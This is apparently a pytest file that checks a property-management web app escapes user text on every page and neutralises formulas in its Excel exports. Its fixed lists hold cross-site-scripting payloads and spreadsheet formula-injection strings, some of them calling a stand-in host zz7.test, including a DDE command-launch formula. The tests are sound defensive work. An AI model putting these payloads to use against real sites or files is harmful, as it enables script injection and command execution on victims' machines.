"""Forty payloads in every place that keeps people's words, read on every page and every export."""

import io
import json
from collections import Counter
from datetime import timedelta
from html.parser import HTMLParser
from itertools import cycle

import openpyxl
import pytest
from aiohttp.test_utils import TestClient
from markupsafe import escape
from sqlalchemy import Connection, String, cast, insert, literal, text, update

from bot.web.routes import ROUTES
from storage.kinds import OwnText, StaffRole
from storage.links import PayLink
from storage.models.base import metadata
from storage.models.late_fees import holds
from storage.models.owners_words import faq_phrasings, faqs, own_texts
from tests.bot.web.conftest import Open
from tests.bot.web.console import furnish, sign_in
from tests.bot.web.published import publish
from tests.bot.web.test_console_matrix import RULES, fill, shape
from tests.bot.web.town import BASE_URL, NOW, TODAY, Town

SCRIPTS = (
    "<script>zz7()</script>",
    "</script><script>zz7()</script>",
    "</title><script>zz7()</script>",
    "</textarea><script>zz7()</script>",
    "</style><script>zz7()</script>",
    "--><script>zz7()</script><!--",
    "<ScRiPt src=//zz7.test></ScRiPt>",
    "<img src=x onerror=zz7()>",
    "<svg onload=zz7()>",
    "<svg><animate onbegin=zz7() attributeName=x></svg>",
    "<body onload=zz7()>",
    "<details open ontoggle=zz7()>",
    "<iframe src=javascript:zz7()></iframe>",
    "<iframe srcdoc='<script>zz7()</script>'></iframe>",
    "<a href=javascript:zz7()>zz7</a>",
    "<form action=//zz7.test><input name=press>",
    "<base href=//zz7.test>",
    "<meta http-equiv=refresh content='0;url=//zz7.test'>",
    "<link rel=stylesheet href=//zz7.test>",
    "<style>*{background:url(//zz7.test)}</style>",
    "<math><mtext><img src=x onerror=zz7()></mtext></math>",
    "<object data=javascript:zz7()></object>",
    '" autofocus onfocus="zz7()',
    "' autofocus onfocus='zz7()",
    '"><img src=x onerror=zz7()>',
    "'><img src=x onerror=zz7()>",
    '" style="background:url(//zz7.test)',
    "<b>{{ 7*7 }}</b>",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://zz7.test","x")',
    '=WEBSERVICE("http://zz7.test")',
    '=IMPORTXML("http://zz7.test","//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
TURN = 5
"""Exports are read anew after so many formulas have moved on: each is in many columns."""
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
PLAIN = "好"
WORDS = {
    "communities": ("name", "company_name", "address", "phone", "filing_no"),
    "buildings": ("label",),
    "units": ("label",),
    "residents": ("name",),
    "staff": ("name",),
    "fee_items": ("name",),
    "bill_lines": ("label", "quantity", "unit_price"),
    "bills": ("void_reason",),
    "tickets": ("said", "outcome"),
    "ticket_steps": ("words",),
    "broadcasts": ("audience_label", "text"),
    "bank_rows": ("payer_name", "payer_account", "memo", "serial", "note"),
    "discrepancies": ("detail",),
    "audit_records": ("detail",),
    "refunds": ("reason", "decline_reason", "detail"),
    "bill_waivers": ("reason", "attachment_name", "decline_reason"),
    "tax_invoices": ("title", "address", "bank_name", "reason", "file_name"),
    "works": ("title",),
    "meters": ("meter_no",),
    "readings": ("note",),
    "public_accounts": ("label", "note"),
    "shared_costs": ("scope_label", "legal_basis", "note"),
    "own_texts": ("words",),
    "faqs": ("answer",),
    "faq_phrasings": ("said",),
    "policies": ("collection_closed", "sharing_basis"),
    "holds": ("reason",),
}
"""Table → its columns that hold what a person wrote, where the town has such a row."""


class Skeleton(HTMLParser):
    """What a page is made of: its elements with the names of their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.made: Counter[tuple[str, ...]] = Counter()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made[tag, *(name for name, _ in attrs)] += 1


def has_broken_out(html: str, plain: str) -> bool:
    """Tell whether a page has an element or an attribute more than with plain words."""
    raw = any(one in html for one in SCRIPTS)
    return raw or bool(Skeleton(html).made - Skeleton(plain).made)


def write_everywhere(tx: Connection, *words: str) -> list[str]:
    """Put words into every column of `WORDS`, by turns; return the tables without a row."""
    empty, turns = [], cycle(words)
    for name, columns in WORDS.items():
        table = metadata.tables[name]
        values = {one: literal(next(turns)) + cast(table.c.id, String) for one in columns}
        if not tx.execute(update(table).values(values)).rowcount:
            empty.append(name)
    said = next(turns)
    told = json.dumps({"basis": "by_area", "quantity": said, "unit_price": said, "sum": said})
    tx.execute(update(metadata.tables["bills"]).values(explanation=told))
    return empty


def say_more(tx: Connection, town: Town) -> None:
    """Let there be an answer and a greeting of the office's own, and a household on hold."""
    here = {"community_id": town.community_id, "written_at": NOW}
    faq = insert(faqs).values(answer="x", from_on=TODAY, **here).returning(faqs.c.id)
    number = tx.execute(faq).scalar_one()
    tx.execute(insert(faq_phrasings).values(faq_id=number, said="x", normal="x"))
    tx.execute(insert(own_texts).values(kind=next(iter(OwnText)), words="x", **here))
    hold = {"kind": "office", "from_on": TODAY, "made_at": NOW}
    tx.execute(insert(holds).values(unit_id=town.first.unit_id, reason="x", **hold))


def let_go(tx: Connection) -> None:
    """Let the test write where nobody else may."""
    asked = text("SELECT name FROM sqlite_master WHERE type = 'trigger'")
    for name in tx.execute(asked).scalars().all():
        tx.execute(text(f'DROP TRIGGER "{name}"'))


async def addresses(town: Town) -> dict[str, str]:
    """Return each address of a page with somebody's things: its shape → its path."""
    desk = await furnish(town)
    things = await fill(town, desk)
    cost_id = await town.db.write(publish, town.community_id, now=NOW)
    links, flat = town.links, town.first
    link = PayLink(flat.unit_id, flat.binding_id, 0, TODAY + timedelta(days=7))
    counter = links.counter_url(desk.ours[StaffRole.CASHIER], day=TODAY)
    span = {"first_on": TODAY - timedelta(days=90), "last_on": TODAY}
    whole, every = links.statement_url(link, **span), links.all_units_url(link, **span)
    books = links.reconciliation_url(desk.ours[StaffRole.MANAGER], expires_on=TODAY)
    public = links.disclosure_url(town.community_id)
    found = {
        "/pay/{token}": links.pay_url(link),
        "/pay/{token}/prepay": f"{links.pay_url(link)}/prepay?what=100000-0-0",
        "/receipts/{token}": links.receipt_url(links.receipt_token(int(str(things["payment"])))),
        "/refunds/{token}": links.refund_url(link),
        "/invoices/{token}": links.tax_invoice_url(link),
        "/statements/{token}": whole,
        "/statements/{token}/statement.xlsx": whole.replace("?", "/statement.xlsx?"),
        "/statements/all/{token}": every,
        "/statements/all/{token}/statement.xlsx": every.replace("?", "/statement.xlsx?"),
        "/reconciliation/{token}": books,
        "/disclosure/{community}": public,
        "/disclosure/{community}/shared/{cost}": f"{public}/shared/{cost_id}",
        "/counter/{token}": f"{counter}?unit={flat.unit_id}",
        "/counter/{token}/day": f"{counter}/day",
    }
    found |= {
        name: rule.where.format(**things)
        for (method, name), rule in RULES.items()
        if method == "GET"
    }
    return {name: where.removeprefix(BASE_URL) for name, where in found.items()}


NO_WORDS = (
    *("/pay/{token}/state", "/pay/{token}/oauth", "/pay/{token}/prepay/oauth"),
    *("/pay/outside/{once}", "/pay/outside/{once}/state", "/tax-invoices/{token}"),
    "/clearances/{token}",
    *("/console/sign-in", "/console/enter/{once}"),
    "/console/dunning/{unit}/letters/{letter}",
    "/disclosure/{community}/reports/{month}",
    *("/counter/{token}/order", "/counter/{token}/done"),
    *("/counter/{token}/waiver", "/counter/{token}/write-off"),
)
"""Answers for machines, one-time doors, and pages of a thing that the town does not have."""
ASKED = ("/console/units", "/console/bills", "/console/payments", "/console/refunds")
"""Pages that say again what was looked for."""


async def read_all(door: TestClient, where: dict[str, str]) -> dict[str, str]:
    """Return every page by its shape; each has to open."""
    pages, shut = {}, {}
    for name, path in where.items():
        answer = await door.get(path, allow_redirects=False)
        if answer.status != 200:
            shut[name] = answer.status
        pages[name] = await answer.text()
    assert shut == {}
    return pages


async def live_cells(door: TestClient, path: str) -> tuple[int, int]:
    """Return of a workbook (cells that a program runs, cells that only look like it)."""
    answer = await door.get(path)
    body = await answer.read()
    assert (answer.status, body[:2]) == (200, b"PK"), path
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    looks = [one for one in cells if isinstance(one.value, str) and one.value.startswith(LIVE)]
    runs = [one for one in looks if one.data_type != "s" or not one.quotePrefix]
    return len(runs), len(looks)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_j01_forty_payloads_stay_words_on_every_page_and_in_every_export(
    town: Town, open_doors: Open
):
    """A page with them is made of what it is made of with plain words; no cell is a formula.

    The two pages that show none have no cash and no statement of a platform to list.
    """
    assert len(SCRIPTS + FORMULAS) == 40
    known = await addresses(town)
    asked = {shape(path) for method, path, _, _ in ROUTES if method == "GET"}
    assert asked - set(known) == {one for one in NO_WORDS if one not in RULES_OF_GET}
    await town.db.write(let_go)
    await town.db.write(say_more, town)
    door = await open_doors(town.parts())
    manager = await town.db.read(
        lambda tx: tx.execute(text("SELECT min(id) FROM staff WHERE role = 'manager'")).scalar_one()
    )
    await sign_in(door, town, manager)
    sheets = [path for name, path in known.items() if name.endswith(".xlsx")]
    where = {
        name: path
        for name, path in known.items()
        if not name.endswith((".xlsx", "/state", "/paper")) and name not in NO_WORDS
    }

    assert await town.db.write(write_everywhere, PLAIN) == []
    plain = await read_all(door, where)
    plain |= {f"{one}?q": await looked_for(door, one, PLAIN) for one in ASKED}
    await town.db.write(write_everywhere, " ".join(SCRIPTS))
    hostile = await read_all(door, where)
    hostile |= {f"{one}?q": await looked_for(door, one, SCRIPTS[0]) for one in ASKED}
    ran: dict[tuple[int, str], int] = {}
    looked: Counter[str] = Counter()
    for turn in range(0, len(FORMULAS), TURN):
        await town.db.write(write_everywhere, *FORMULAS[turn:], *FORMULAS[:turn])
        for path in sheets:
            runs, looks = await live_cells(door, path)
            looked[path] += looks
            if runs:
                ran[turn, path] = runs

    assert [one for one in hostile if has_broken_out(hostile[one], plain[one])] == []
    assert ran == {}
    told = {name for name, html in hostile.items() if str(escape(SCRIPTS[0])) in html}
    assert sorted(set(hostile) - told) == ["/counter/{token}/day", "/reconciliation/{token}"]
    assert [path for path in sheets if not looked[path]] == []


RULES_OF_GET = {name for method, name in RULES if method == "GET"}


async def looked_for(door: TestClient, path: str, words: str) -> str:
    answer = await door.get(path, params={"q": words})
    assert answer.status == 200
    return await answer.text()


@pytest.mark.parametrize("payload", SCRIPTS)
def test_a_payload_that_breaks_out_would_be_seen(payload: str):
    frame = '<p class="x">{}</p><input value="{}"><input value=\'{}\'>'

    assert has_broken_out(frame.format(*[payload] * 3), frame.format(*[PLAIN] * 3))
    assert not has_broken_out(frame.format(*[escape(payload)] * 3), frame.format(*[PLAIN] * 3))
